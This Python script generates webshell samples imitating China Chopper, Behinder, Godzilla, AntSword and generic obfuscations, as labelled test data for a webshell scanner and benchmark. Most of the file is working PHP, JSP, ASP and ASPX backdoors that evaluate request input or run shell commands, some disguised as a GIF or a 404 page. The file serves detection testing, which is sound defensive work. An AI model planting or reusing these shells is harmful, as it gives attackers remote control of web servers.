#!/usr/bin/env python3
"""Writes our own webshell samples (test data for the scanner and bench/webshell).

These model the shapes of known families (China Chopper, Behinder, Godzilla, AntSword) and
common obfuscations; they are written by us, contain no downloaded malware, and the keys and
parameter names are made up. The file name prefix is the family the scanner must report
("generic_" = no family). Re-run to regenerate: python3 make_samples.py

samples/ also holds 32 hand-written files that are not generated here: two former held-out
sets (22 files, 10 of 22 caught at the first freeze; then 10 files, 3 of 10 caught at the
second), used afterwards to close the gaps they exposed, so they are now tuned-for samples like
the rest. samples/ also holds the first four generated held-out sets after they were used for
tuning (generic_eval1_*: make_eval.py; generic_eval2_*: make_eval2.py; generic_eval3_*:
make_eval3.py; generic_eval4_*: make_eval4.py; the shells still missed are in known_misses/);
heldout/ is where the current held-out set goes (set 5, written blind). See docs/webshell.md for
the protocol.
"""
import base64
import codecs
import os
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "samples")


def b64(s):
    return base64.b64encode(s.encode()).decode()


def deflate_b64(s):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(s.encode()) + c.flush()).decode()


def rot13(s):
    return codecs.encode(s, "rot13")


BEHINDER_PHP = """<?php
@error_reporting(0);
session_start();
    $key="e45e329feb5d925b";
    $_SESSION['k']=$key;
    session_write_close();
    $post=file_get_contents("php://input");
    if(!extension_loaded('openssl'))
    {
        $t="base64_"."decode";
        $post=$t($post."");
        for($i=0;$i<strlen($post);$i++) {
                 $post[$i] = $post[$i]^$key[$i+1&15];
                }
    }
    else
    {
        $post=openssl_decrypt($post, "AES128", $key);
    }
    $arr=explode('|',$post);
    $func=$arr[0];
    $params=$arr[1];
    class C{public function __invoke($p) {eval($p."");}}
    @call_user_func(new C(),$params);
?>
"""

GODZILLA_PHP = """<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function encode($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$pass='pass';
$payloadName='payload';
$key='3c6e0b8a9c15224a';
if (isset($_POST[$pass])){
    $data=encode(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=encode($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=encode($payload,$key);
        }
        eval($payload);
        echo substr(md5($pass.$key),0,16);
        echo base64_encode(encode(@run($data),$key));
        echo substr(md5($pass.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=encode($data,$key);
        }
    }
}
"""

SAMPLES = {
    # --- China Chopper (中国菜刀): one-liners and their disguises ---------------------------
    "china_chopper_php_basic.php": "<?php @eval($_POST['caidao']);?>\n",
    "china_chopper_php_assert.php": "<?php @assert($_REQUEST[\"z0\"]); ?>\n",
    "china_chopper_php_comments.php":
        "<?php /* cache */ @ EvAl /* x */ (\n  $_POST [ 'pass' ] # y\n ) ; // z\n?>\n",
    "china_chopper_php_varvar.php": "<?php @eval(${\"_PO\".'ST'}['x']); ?>\n",
    "china_chopper_php_array_map.php":
        "<?php\n$a = array_map(\"ass\" . \"ert\", $_POST['x']);\n",
    "china_chopper_php_in_gif.gif": "GIF89a\x01\x00\x01\x00\n<?php eval($_POST['c']); ?>\n",
    "china_chopper_php_html_noise.php":
        "<html><head><title>404 Not Found</title></head><body>\n<h1>Not Found</h1>\n"
        "<p>The requested URL was not found on this server.</p>\n"
        "<?php if(isset($_POST['x'])){@eval($_POST['x']);} ?>\n</body></html>\n",
    "china_chopper_php_base64.php":
        "<?php eval(base64_decode('%s')); ?>\n" % b64("@eval($_POST['c']);"),
    "china_chopper_php_gzinflate.php":
        "<?php eval(gzinflate(base64_decode('%s'))); ?>\n" % deflate_b64("@eval($_POST['c']);"),
    "china_chopper_php_rot13.php":
        "<?php eval(str_rot13('%s')); ?>\n" % rot13('@eval($_POST["c"]);'),
    "china_chopper_php_cookie.php": "<?php\n@eval($_COOKIE['sid']);\n",
    "china_chopper_asp_basic.asp": "<%eval request(\"caidao\")%>\n",
    "china_chopper_asp_execute.asp": "<%\nexecute(request(\"z\"))\n%>\n",
    "china_chopper_aspx_basic.aspx":
        "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"chopper\"],\"unsafe\");%>\n",
    # --- Behinder (冰蝎) ----------------------------------------------------------------------
    "behinder_php_aes.php": BEHINDER_PHP,
    "behinder_php_xor.php": """<?php
session_start();
$k = "900bc885d7553375";
$_SESSION['k'] = $k;
$p = file_get_contents("php://input");
for ($i = 0; $i < strlen($p); $i++) { $p[$i] = $p[$i] ^ $k[$i+1&15]; }
$a = explode('|', $p);
class X { public function __invoke($q) { eval($q . ""); } }
@call_user_func(new X(), $a[1]);
""",
    "behinder_php_noise.php": """<?php
/* WordPress cache helper */ @error_reporting(0); session_start();
$key  =  "e45e329f"  .  "eb5d925b" ;   // cache key
$_SESSION [ 'k' ] = $key ;
$post = file_get_contents ( "php:" . "//" . "input" ) ;
$post = openssl_decrypt ( $post , "AES" . "128" , $key ) ;
$arr = explode ( '|' , $post ) ;
class C { public function __invoke ( $p ) { eval ( $p . "" ) ; } }
@call_user_func ( new C ( ) , $arr [ 1 ] ) ;
""",
    "behinder_php_b64layer.php":
        "<?php\n// generated\neval(base64_decode('%s'));\n" % b64(BEHINDER_PHP.replace("<?php", "").replace("?>", "")),
    "behinder_jsp.jsp": """<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
""",
    "behinder_jsp_spaced.jsp": """<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
  class Loader extends ClassLoader {
    Loader(ClassLoader parent) { super(parent); }
    public Class define(byte[] b) { return super.defineClass(b, 0, b.length); }
  }
%>
<%
  if (request.getMethod().equals("POST")) {
    String k = "a1b2c3d4e5f60718";
    session.putValue("u", k);
    Cipher c = Cipher.getInstance( "AES" );
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    byte[] body = new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine());
    new Loader(this.getClass().getClassLoader()).define(c.doFinal(body)).newInstance().equals(pageContext);
  }
%>
""",
    "behinder_aspx.aspx": """<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
""",
    # --- Godzilla (哥斯拉) ----------------------------------------------------------------------
    "godzilla_php_xor_base64.php": GODZILLA_PHP,
    "godzilla_php_renamed.php": """<?php
@session_start(); @set_time_limit(0); @error_reporting(0);
/* image resize helper */
function img_x($d, $k) { for ($n = 0; $n < strlen($d); $n++) { $c = $k[$n+1&15]; $d[$n] = $d[$n] ^ $c; } return $d; }
$p = 'thumb'; $s = 'size'; $z = '0c1f2e3d4c5b6a79';
if (isset($_POST[$p])) {
  $v = img_x(base64_decode($_POST[$p]), $z);
  if (isset($_SESSION[$s])) { $q = img_x($_SESSION[$s], $z); eval($q);
    echo substr(md5($p.$z), 0, 16); echo base64_encode(img_x(@run($v), $z)); echo substr(md5($p.$z), 16);
  } else { $_SESSION[$s] = img_x($v, $z); }
}
""",
    "godzilla_php_gz.php":
        "<?php\n$x = '%s';\neval(gzinflate(base64_decode($x)));\n" % deflate_b64(GODZILLA_PHP.replace("<?php", "")),
    "godzilla_jsp.jsp": """<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }} public static String md5(String s) {String ret = null;try {java.security.MessageDigest m;m = java.security.MessageDigest.getInstance("MD5");m.update(s.getBytes(), 0, s.length());ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();} catch (Exception e) {}return ret; } %><%try{byte[] data=java.util.Base64.getDecoder().decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(arrOut);f.equals(pageContext);response.getWriter().write(md5.substring(0,16));f.toString();response.getWriter().write(java.util.Base64.getEncoder().encodeToString(x(arrOut.toByteArray(), true)));response.getWriter().write(md5.substring(16));} }catch (Exception e){}
%>
""".replace('getInstance("AES")', 'getInstance("AES/ECB/PKCS5Padding")'),
    "godzilla_aspx.aspx": """<%@ Page Language="C#"%><%try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", ""); byte[] data = System.Convert.FromBase64String(Context.Request[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); ; } else { System.IO.MemoryStream outStream = new System.IO.MemoryStream(); object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(outStream); o.Equals(data); o.ToString(); byte[] r = outStream.ToArray(); Context.Response.Write(md5.Substring(0, 16)); Context.Response.Write(System.Convert.ToBase64String(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(r, 0, r.Length))); Context.Response.Write(md5.Substring(16)); } } catch (System.Exception) { }
// Assembly.Load( via reflection above
%>
""",
    # --- AntSword (蚁剑) -------------------------------------------------------------------------
    "antsword_php_loader.php": """<?php
@ini_set("display_errors", "0");
@set_time_limit(0);
function asenc($out){ return @base64_encode($out); };
function asoutput(){ $output=ob_get_contents(); ob_end_clean(); echo "ab"."cd"; echo @asenc($output); echo "ef"."gh"; }
ob_start();
try { $D = dirname($_SERVER["SCRIPT_FILENAME"]); if ($D == "") $D = dirname($_SERVER["PATH_TRANSLATED"]); echo $D; } catch (Exception $e) { echo "ERROR://".$e->getMessage(); };
asoutput();
die();
""",
    "antsword_php_ant.php": "<?php $ant = base64_decode(\"YXNzZXJ0\"); $ant($_POST['ant']); ?>\n",
    "antsword_php_b64param.php": "<?php @eval(@base64_decode($_POST['_0x3a1f9c'])); ?>\n",
    "antsword_php_rot13param.php": "<?php eval(str_rot13($_REQUEST['0x5b2e'])); ?>\n",
    "antsword_php_plain.php": "<?php\n// ant\n@eval( $_POST[ \"ant\" ] );\n",
    "antsword_php_layered.php":
        "<?php eval(base64_decode('%s'));\n" % b64("@eval(@base64_decode($_POST['_0x7c21ab']));"),
    # --- generic obfuscations ------------------------------------------------------------------
    "generic_php_var_func.php": "<?php\n$f = \"as\" . \"sert\";\n$f($_POST['x']);\n",
    "generic_php_chr.php":
        "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f($_GET['c']);\n",
    "generic_php_hex_escape.php": "<?php\n$f=\"\\x61\\x73\\163\\x65\\x72\\x74\";\n@$f($_REQUEST['c']);\n",
    "generic_php_create_function.php": "<?php\n$f = create_function('', $_POST['c']);\n$f();\n",
    "generic_php_preg_e.php": "<?php\npreg_replace(\"/.*/e\", $_POST['c'], \"\");\n",
    "generic_php_system.php": "<?php\nif (isset($_GET['cmd'])) { system($_GET['cmd']); }\n",
    "generic_php_backtick.php": "<?php echo `$_GET[cmd]`; ?>\n",
    "generic_php_input_include.php": "<?php include(\"php://input\"); ?>\n",
    "generic_php_call_user_func.php": "<?php\ncall_user_func($_POST['f'], $_POST['a']);\n",
    "generic_php_extract.php": "<?php\nextract($_REQUEST);\n@$a($b);\n",
    "generic_php_strrev.php": "<?php\n$f = strrev(\"tressa\");\n$f($_POST['x']);\n",
    "generic_php_multilayer.php":
        "<?php\neval(base64_decode('%s'));\n" % b64(
            "eval(gzinflate(base64_decode('%s')));" % deflate_b64(
                "eval(str_rot13('%s'));" % rot13('system($_POST["c"]);'))),
    "generic_php_getallheaders.php": "<?php\n$h = getallheaders();\neval($h['X-Run']);\n",
    "generic_php_passthru_cookie.php": "<?php\n$c = $_COOKIE['c'];\npassthru($c);\n",
    "generic_php_foreach.php": "<?php\nforeach ($_POST as $k => $v) { $k($v); }\n",
    "generic_php_usort.php": "<?php\n$a = array($_GET['x'], 1);\nusort($a, $_GET['f']);\n",
    "generic_php_hex2bin.php": "<?php\n$f = hex2bin(\"617373657274\");\n$f($_POST['x']);\n",
    "generic_php_whitespace.php":
        "<?php\n\n\n\t$c\n\t=\n\t$_POST\n\t[\n'c'\n]\n;\n\n\n\tEVAL\n(\n$c\n)\n;\n",
    "generic_jsp_runtime.jsp":
        "<%@ page import=\"java.io.*\" %><%\nString c = request.getParameter(\"cmd\");\n"
        "Process p = Runtime.getRuntime().exec(c);\nInputStream in = p.getInputStream();\n%>\n",
    "generic_jsp_processbuilder.jsp":
        "<%\nProcess p = new ProcessBuilder(\"/bin/sh\", \"-c\", request.getParameter(\"c\")).start();\n%>\n",
    "generic_jsp_classloader.jsp":
        "<%! class L extends ClassLoader { Class d(byte[] b) { return defineClass(null, b, 0, b.length); } } %>\n"
        "<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter(\"k\"));\n"
        "new L().d(b).newInstance(); %>\n",
    "generic_asp_wscript.asp":
        "<%\nSet s = CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"cmd /c \" & Request.Form(\"c\"))\n"
        "Response.Write e.StdOut.ReadAll()\n%>\n",
    "generic_asp_executeglobal.asp": "<%\nExecuteGlobal Request.Item(\"x\")\n%>\n",
}


def main():
    os.makedirs(OUT, exist_ok=True)
    for name, text in SAMPLES.items():
        with open(os.path.join(OUT, name), "w", encoding="latin-1", newline="") as f:
            f.write(text)
    print("wrote %d samples to %s" % (len(SAMPLES), OUT))


if __name__ == "__main__":
    main()
